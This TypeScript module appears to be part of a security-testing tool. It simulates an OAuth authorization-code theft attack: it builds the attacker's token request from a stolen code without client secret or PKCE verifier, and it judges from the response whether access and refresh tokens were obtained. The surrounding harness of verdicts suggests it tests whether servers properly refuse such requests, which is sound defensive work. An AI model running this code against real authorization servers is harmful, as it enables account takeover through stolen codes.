import { asBytes, encodeForm, type HttpRequest, type HttpResponse } from '@flowscope/http-message'
import { jsonObjectOf, textMember } from '../json.ts'
import { passed, refused, type Verdict } from '../verdict.ts'
import type { StolenCode } from './steal-code.ts'

/**
 * The attacker's token request: the stolen code and what everybody may know. Neither secret nor
 * verifier ever passed through the browser.
 *
 * @param tokenEndpoint a public address
 * @param clientId public too: it stands in the authorize URL
 */
export function tradeRequest(
  tokenEndpoint: string,
  clientId: string,
  { code, redirectUri }: StolenCode,
): HttpRequest {
  const url = new URL(tokenEndpoint)
  const body = asBytes(
    encodeForm([
      ['grant_type', 'authorization_code'],
      ['code', code],
      ['redirect_uri', redirectUri],
      ['client_id', clientId],
    ]),
  )
  return {
    scheme: url.protocol === 'https:' ? 'https' : 'http',
    authority: url.host,
    method: 'POST',
    target: url.pathname,
    headers: [
      ['Host', url.host],
      ['Connection', 'keep-alive'],
      ['User-Agent', 'curl/8.5.0'],
      ['Accept', '*/*'],
      ['Content-Length', String(body.length)],
      ['Content-Type', 'application/x-www-form-urlencoded'],
    ],
    body,
  }
}

export interface Loot {
  readonly accessToken: string
  readonly refreshToken: string | null
}

export interface TradeReading {
  /** Passed when the attacker holds a token now. */
  readonly verdict: Verdict
  readonly loot: Loot | null
}

/** Decides by what came back whether the attack succeeded. */
export function readTrade(response: HttpResponse): TradeReading {
  const json = jsonObjectOf(response.body)
  const accessToken = json && textMember(json, 'access_token')
  if (json && accessToken) {
    const loot = { accessToken, refreshToken: textMember(json, 'refresh_token') }
    return { verdict: passed('attacker', 'trade.response'), loot }
  }
  const code = (json && textMember(json, 'error')) ?? String(response.status)
  const description = (json && textMember(json, 'error_description')) ?? response.reason
  const verdict = refused('attacker', 'trade.response', 'tokenResponse', { code, description })
  return { verdict, loot: null }
}
